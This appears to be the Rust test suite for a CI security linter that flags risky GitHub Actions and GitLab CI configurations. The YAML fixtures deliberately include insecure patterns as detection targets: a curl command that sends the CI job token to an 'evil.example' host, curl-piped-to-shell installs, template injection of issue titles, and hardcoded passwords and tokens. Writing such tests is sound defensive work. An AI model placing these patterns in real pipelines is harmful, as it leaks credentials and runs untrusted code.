//! One positive and one negative definition per rule.

#![allow(clippy::unwrap_used)]

use palisade_ci::{Finding, Kind, Options, Policy, Severity, audit_text};

fn run(kind: Kind, text: &str) -> Vec<Finding> {
    audit_text("t.yml", kind, text, &Options::default()).unwrap()
}

fn wf(text: &str) -> Vec<Finding> {
    run(Kind::Workflow, text)
}

fn of<'a>(f: &'a [Finding], rule: &str) -> Vec<&'a Finding> {
    f.iter().filter(|x| x.rule == rule).collect()
}

const HEAD: &str =
    "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n";

fn steps(body: &str) -> String {
    format!("{HEAD}{body}")
}

#[test]
fn unpinned_uses() {
    let f = wf(&steps(
        "      - uses: some/action@main\n      - uses: some/other@v2\n      - uses: actions/setup-go@v5\n      - uses: bare/action\n",
    ));
    let u = of(&f, "unpinned-uses");
    assert_eq!(u.len(), 4, "{u:#?}");
    assert_eq!((u[0].line, u[0].column), (7, 15));
    assert_eq!(u[0].severity, Severity::High, "a branch is worst");
    assert_eq!(u[1].severity, Severity::Medium, "a third-party tag");
    assert_eq!(u[2].severity, Severity::Low, "a GitHub-owned tag");
    assert_eq!(u[3].severity, Severity::High, "no ref at all");
    assert!(u[0].snippet.contains("some/action@main"));
    let ok = wf(&steps(
        "      - uses: some/action@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n      - uses: ./local\n      - uses: $/.github/actions/x\n",
    ));
    assert!(of(&ok, "unpinned-uses").is_empty());
    // reusable workflows too
    let f = wf(
        "on: push\npermissions: {}\njobs:\n  r:\n    uses: org/repo/.github/workflows/x.yml@main\n",
    );
    assert_eq!(of(&f, "unpinned-uses").len(), 1);
}

#[test]
fn unpinned_images() {
    let f = wf(&format!("{HEAD}      - uses: docker://alpine:3.20\n"));
    assert_eq!(of(&f, "unpinned-images").len(), 1);
    let f = wf(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    container: node\n    services:\n      db:\n        image: postgres:16\n    steps: []\n",
    );
    let u = of(&f, "unpinned-images");
    assert_eq!(u.len(), 2);
    assert_eq!(u[0].severity, Severity::High, "no tag = latest");
    let f = wf(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        img: ['ubuntu:latest', 'debian@sha256:0000000000000000000000000000000000000000000000000000000000000000']\n    container: ${{ matrix.img }}\n    steps: []\n",
    );
    let u = of(&f, "unpinned-images");
    assert_eq!(u.len(), 1, "the matrix value is checked: {u:#?}");
    assert_eq!(u[0].line, 8);
    let ok = wf(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    container: node@sha256:0000000000000000000000000000000000000000000000000000000000000000\n    steps: []\n",
    );
    assert!(of(&ok, "unpinned-images").is_empty());
}

#[test]
fn permissions() {
    let f = wf("on: push\npermissions: write-all\njobs:\n  a:\n    runs-on: x\n    steps: []\n");
    assert_eq!(of(&f, "excessive-permissions")[0].severity, Severity::High);
    let f = wf(
        "on: push\npermissions:\n  contents: write\njobs:\n  a:\n    runs-on: x\n    steps: []\n  b:\n    runs-on: x\n    steps: []\n",
    );
    assert_eq!(of(&f, "excessive-permissions").len(), 1);
    assert_eq!(of(&f, "excessive-permissions")[0].line, 3);
    let f = wf(
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps: []\n  b:\n    runs-on: x\n    permissions:\n      contents: read\n    steps: []\n",
    );
    let m = of(&f, "missing-permissions");
    assert_eq!(m.len(), 2, "workflow and job a: {m:#?}");
    assert_eq!(m[1].line, 3);
    let ok = wf(
        "on: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: x\n    permissions:\n      contents: write\n    steps: []\n",
    );
    assert!(of(&ok, "missing-permissions").is_empty());
    assert!(of(&ok, "excessive-permissions").is_empty());
}

#[test]
fn template_injection() {
    let f = wf(&steps(
        "      - run: |\n          echo ok\n          echo \"${{ github.event.issue.title }}\"\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: console.log('${{ github.head_ref }}')\n",
    ));
    let t = of(&f, "template-injection");
    assert_eq!(t.len(), 2, "{t:#?}");
    assert_eq!((t[0].line, t[0].column), (9, 17));
    assert_eq!(t[0].severity, Severity::High);
    assert_eq!(t[1].line, 12);
    let f = wf(&steps("      - run: echo ${{ steps.x.outputs.y }}\n"));
    assert_eq!(of(&f, "template-injection")[0].severity, Severity::Low);
    let ok = wf(&steps(
        "      - run: echo \"$TITLE\" ${{ github.sha }} ${{ secrets.X }}\n        env:\n          TITLE: ${{ github.event.issue.title }}\n",
    ));
    assert!(of(&ok, "template-injection").is_empty());
}

#[test]
fn dangerous_triggers() {
    let f = wf(
        "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n        with:\n          persist-credentials: false\n          ref: ${{ github.event.pull_request.head.sha }}\n",
    );
    let d = of(&f, "dangerous-triggers");
    assert_eq!(d.len(), 2);
    assert_eq!(d[0].severity, Severity::Medium);
    assert_eq!((d[1].line, d[1].severity), (10, Severity::High));
    let ok = wf(&steps("      - run: make\n"));
    assert!(of(&ok, "dangerous-triggers").is_empty());
    // secrets handed to the checked-out code
    let f = wf(
        "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make lint\n        env:\n          T: ${{ secrets.T }}\n      - uses: actions/checkout@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n        with:\n          persist-credentials: false\n          ref: ${{ github.event.pull_request.head.ref }}\n      - run: make test\n      - run: make publish\n        env:\n          TOKEN: ${{ secrets.NPM_TOKEN }}\n",
    );
    let s = of(&f, "secrets-to-untrusted");
    assert_eq!(
        (s.len(), s[0].line),
        (1, 17),
        "only after the checkout: {s:#?}"
    );
}

#[test]
fn bot_conditions() {
    let f = wf(
        "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    if: github.actor == 'dependabot[bot]'\n    runs-on: x\n    steps: []\n",
    );
    let b = of(&f, "bot-conditions");
    assert_eq!((b.len(), b[0].severity), (1, Severity::High));
    let ok = wf(
        "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    if: github.actor != 'dependabot[bot]' && github.event.pull_request.user.login == 'renovate[bot]'\n    runs-on: x\n    steps: []\n",
    );
    assert!(of(&ok, "bot-conditions").is_empty());
}

#[test]
fn artipacked() {
    let f = wf(&steps("      - uses: actions/checkout@v4\n"));
    assert_eq!(of(&f, "artipacked").len(), 1);
    let ok = wf(&steps(
        "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n",
    ));
    assert!(of(&ok, "artipacked").is_empty());
}

#[test]
fn secrets_inherit_and_overprovisioned() {
    let f = wf(
        "on: push\npermissions: {}\njobs:\n  r:\n    uses: ./.github/workflows/x.yml\n    secrets: inherit\n",
    );
    assert_eq!(of(&f, "secrets-inherit")[0].line, 6);
    let ok = wf(
        "on: push\npermissions: {}\njobs:\n  r:\n    uses: ./.github/workflows/x.yml\n    secrets:\n      token: ${{ secrets.TOKEN }}\n",
    );
    assert!(of(&ok, "secrets-inherit").is_empty());
    assert!(of(&ok, "overprovisioned-secrets").is_empty());
    let f = wf(&steps(
        "      - run: echo\n        env:\n          ALL: ${{ toJSON(secrets) }}\n",
    ));
    assert_eq!(of(&f, "overprovisioned-secrets").len(), 1);
}

#[test]
fn hardcoded_credentials() {
    let f = wf(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    container:\n      image: x@sha256:0000000000000000000000000000000000000000000000000000000000000000\n      credentials:\n        username: me\n        password: hunter22\n    env:\n      T: ghp_abcdefghijklmnopqrstuvwxyz0123456789\n    steps: []\n",
    );
    let h = of(&f, "hardcoded-credentials");
    assert_eq!(h.len(), 2, "{h:#?}");
    assert_eq!(h[0].line, 10);
    let ok = wf(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    container:\n      image: x@sha256:0000000000000000000000000000000000000000000000000000000000000000\n      credentials:\n        username: me\n        password: ${{ secrets.PW }}\n    steps:\n      - uses: actions/setup-java@v4\n        with:\n          server-password: MAVEN_PASSWORD\n",
    );
    assert!(of(&ok, "hardcoded-credentials").is_empty());
}

#[test]
fn insecure_commands() {
    let f = wf(&steps(
        "      - run: echo\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n",
    ));
    assert_eq!(of(&f, "insecure-commands").len(), 1);
    let ok = wf(&steps(
        "      - run: echo\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n",
    ));
    assert!(of(&ok, "insecure-commands").is_empty());
}

#[test]
fn remote_exec() {
    let f = wf(&steps(
        "      - run: |\n          set -e\n          curl -fsSL https://x.example/install.sh | sh\n",
    ));
    let r = of(&f, "remote-exec");
    assert_eq!((r.len(), r[0].line, r[0].column), (1, 9, 11));
    let ok = wf(&steps(
        "      - run: curl -fsSLO https://x.example/t.tgz && sha256sum -c t.sha\n",
    ));
    assert!(of(&ok, "remote-exec").is_empty());
}

#[test]
fn cache_poisoning() {
    let f = wf(
        "on:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/cache@v4\n      - uses: actions/setup-go@v5\n        with:\n          cache: false\n",
    );
    assert_eq!(of(&f, "cache-poisoning").len(), 1);
    let ok = wf(
        "on: pull_request\npermissions: {}\njobs:\n  test:\n    runs-on: x\n    steps:\n      - uses: actions/cache@v4\n",
    );
    assert!(of(&ok, "cache-poisoning").is_empty());
    // a job that publishes is a release job whatever the trigger
    let f = wf(
        "on: workflow_dispatch\npermissions: {}\njobs:\n  up:\n    runs-on: x\n    steps:\n      - uses: Swatinem/rust-cache@v2\n      - run: cargo publish\n",
    );
    assert_eq!(of(&f, "cache-poisoning").len(), 1);
}

#[test]
fn self_hosted_runner() {
    let f = wf(
        "on: pull_request\npermissions: {}\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps: []\n",
    );
    assert_eq!(of(&f, "self-hosted-runner").len(), 1);
    let ok = wf(
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps: []\n",
    );
    assert!(of(&ok, "self-hosted-runner").is_empty());
}

#[test]
fn untrusted_artifacts_and_github_env() {
    let f = wf(
        "on:\n  workflow_run:\n    workflows: [ci]\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n      - run: cat out.txt >> $GITHUB_ENV\n",
    );
    assert_eq!(of(&f, "untrusted-artifacts").len(), 1);
    assert_eq!(of(&f, "github-env").len(), 1);
    let ok = wf(&steps(
        "      - uses: actions/download-artifact@v4\n      - run: echo X=1 >> $GITHUB_ENV\n",
    ));
    assert!(of(&ok, "untrusted-artifacts").is_empty());
    assert!(of(&ok, "github-env").is_empty());
}

#[test]
fn composite_and_docker_actions() {
    let f = run(
        Kind::Action,
        "name: x\nruns:\n  using: composite\n  steps:\n    - uses: a/b@v1\n    - run: echo ${{ github.event.pull_request.title }}\n      shell: bash\n",
    );
    assert_eq!(of(&f, "unpinned-uses").len(), 1);
    assert_eq!(of(&f, "template-injection").len(), 1);
    let f = run(
        Kind::Action,
        "runs:\n  using: docker\n  image: docker://alpine:3\n",
    );
    assert_eq!(of(&f, "unpinned-images").len(), 1);
    let ok = run(
        Kind::Action,
        "runs:\n  using: docker\n  image: Dockerfile\n",
    );
    assert!(ok.is_empty());
}

#[test]
fn suppression_comments() {
    let f = wf(&steps(
        "      - uses: some/action@main # palisade: ignore[unpinned-uses]\n      # palisade: ignore[artipacked, unpinned-uses]\n      - uses: actions/checkout@v4\n      - uses: x/y@v1 # zizmor: ignore[unpinned-uses]\n",
    ));
    assert!(of(&f, "unpinned-uses").is_empty(), "{f:#?}");
    assert!(of(&f, "artipacked").is_empty());
    let f = wf(&steps(
        "      - uses: some/action@main # palisade: ignore[artipacked]\n",
    ));
    assert_eq!(
        of(&f, "unpinned-uses").len(),
        1,
        "another rule's suppression does not apply"
    );
}

fn gl(text: &str) -> Vec<Finding> {
    run(Kind::Gitlab, text)
}

#[test]
fn gitlab_includes() {
    let f = gl(
        "include:\n  - remote: https://example.com/ci.yml\n  - project: grp/ci\n    file: a.yml\n  - project: grp/ci\n    ref: main\n    file: a.yml\n  - component: gitlab.com/grp/comp/build@1.2.0\n  - template: Jobs/SAST.gitlab-ci.yml\n  - local: /ci/more.yml\n",
    );
    let i = of(&f, "gitlab-unpinned-include");
    assert_eq!(i.len(), 5, "{i:#?}");
    assert_eq!(i[0].line, 2);
    let ok = gl(
        "include:\n  - remote: https://example.com/ci.yml\n    integrity: sha256-abc\n  - project: grp/ci\n    ref: 8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n    file: a.yml\n  - local: /ci/x.yml\n",
    );
    assert!(of(&ok, "gitlab-unpinned-include").is_empty());
}

#[test]
fn gitlab_images() {
    let f = gl(
        "image: ruby:3.3\nbuild:\n  image:\n    name: alpine\n  services:\n    - postgres:16\n  script: [make]\n",
    );
    assert_eq!(of(&f, "unpinned-images").len(), 3);
    let ok = gl(
        "image: ruby@sha256:0000000000000000000000000000000000000000000000000000000000000000\nbuild:\n  image: $CI_REGISTRY/x:1\n  script: [make]\n",
    );
    assert!(of(&ok, "unpinned-images").is_empty());
}

#[test]
fn gitlab_job_token() {
    let f = gl(
        "a:\n  script:\n    - echo $CI_JOB_TOKEN\n    - curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://evil.example/upload\n    - echo $CI_JOB_TOKEN > token.txt\n",
    );
    let t = of(&f, "gitlab-job-token");
    assert_eq!(t.len(), 3, "{t:#?}");
    assert_eq!((t[0].line, t[0].column), (3, 7));
    let ok = gl(
        "a:\n  script:\n    - 'curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" \"${CI_API_V4_URL}/projects/1/packages\"'\n",
    );
    assert!(of(&ok, "gitlab-job-token").is_empty());
}

#[test]
fn gitlab_variables_and_merge_requests() {
    let f = gl(
        "variables:\n  DB_PASSWORD: s3cretvalue\nt:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n  script:\n    - printenv\n    - ./deploy --token \"$DEPLOY_TOKEN\"\n",
    );
    assert_eq!(of(&f, "hardcoded-credentials").len(), 1);
    let p = of(&f, "gitlab-protected-variables");
    assert_eq!((p.len(), p[0].severity), (1, Severity::High));
    assert_eq!(of(&f, "gitlab-mr-secrets").len(), 1);
    let ok = gl(
        "t:\n  rules:\n    - if: $CI_COMMIT_TAG\n  script:\n    - ./deploy --token \"$DEPLOY_TOKEN\"\n",
    );
    assert!(of(&ok, "gitlab-mr-secrets").is_empty());
    assert!(of(&ok, "gitlab-protected-variables").is_empty());
    // no rules of its own, but the pipeline is created for merge requests
    let f = gl(
        "workflow:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == 'merge_request_event'\nt:\n  script:\n    - ./deploy $API_TOKEN\n",
    );
    assert_eq!(of(&f, "gitlab-mr-secrets").len(), 1);
    // rules inherited through extends
    let f = gl(
        ".mr:\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\nt:\n  extends: .mr\n  script:\n    - ./deploy $API_TOKEN\nloop:\n  extends: loop\n  script: [make]\n",
    );
    let m = of(&f, "gitlab-mr-secrets");
    assert_eq!((m.len(), m[0].line), (1, 4), "{m:#?}");
    let f = gl("t:\n  script:\n    - curl https://x.example/i.sh | bash\n");
    assert_eq!(of(&f, "remote-exec").len(), 1);
}

#[test]
fn template_policy() {
    let policy = Policy::from_toml(
        r#"
[actions]
allow = ["actions/*", "my-org/*"]
[permissions]
max = { contents = "read", id-token = "write" }
[[require]]
name = "sbom"
run = "palisade sbom generate"
scope = "release"
[[require]]
name = "secrets scan"
uses = "my-org/secrets-scan*"
[[require]]
name = "sbom job"
job = "sbom*"
[release]
jobs = ["release"]
runs-on = ["ubuntu-24.04"]
environment = "release"
"#,
    )
    .unwrap();
    let opts = Options {
        policy: Some(policy),
        ..Options::default()
    };
    let bad = "on: push\npermissions:\n  contents: write\njobs:\n  release:\n    runs-on: self-hosted\n    steps:\n      - uses: evil/thing@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n";
    let f = audit_text("r.yml", Kind::Workflow, bad, &opts).unwrap();
    let rules: Vec<&str> = f.iter().map(|x| x.rule.as_str()).collect();
    assert!(rules.contains(&"policy-action-not-allowed"), "{rules:?}");
    assert!(rules.contains(&"policy-permissions"));
    assert_eq!(
        of(&f, "policy-required-step").len(),
        3,
        "sbom in release, secrets scan and an sbom* job anywhere"
    );
    assert_eq!(
        of(&f, "policy-release-runner").len(),
        2,
        "runner and environment"
    );
    let good = "on: push\npermissions:\n  contents: read\njobs:\n  scan:\n    runs-on: x\n    steps:\n      - uses: my-org/secrets-scan@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n  sbom-report:\n    runs-on: x\n    permissions: {}\n    steps: []\n  release:\n    runs-on: ubuntu-24.04\n    environment: release\n    permissions:\n      id-token: write\n    steps:\n      - uses: actions/checkout@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n        with:\n          persist-credentials: false\n      - run: palisade sbom generate . --out sbom.json\n";
    let f = audit_text("r.yml", Kind::Workflow, good, &opts).unwrap();
    assert!(f.iter().all(|x| !x.rule.starts_with("policy-")), "{f:#?}");
}

#[test]
fn never_panics_on_odd_shapes() {
    for t in [
        "",
        "~",
        "[]",
        "on: [push, 3]\njobs: 5\n",
        "jobs:\n  a: [1, 2]\n",
        "jobs:\n  a:\n    steps: {x: 1}\n",
        "on:\n  push:\n    branches: 7\njobs:\n  a:\n    steps:\n      - uses: [1]\n        run: {a: b}\n        with: 3\n",
        "include: 5\nimage: {name: [1]}\nx:\n  script: {a: 1}\n  rules: 3\n",
    ] {
        for k in [Kind::Workflow, Kind::Action, Kind::Gitlab] {
            let _ = audit_text("t.yml", k, t, &Options::default()).unwrap();
        }
    }
}
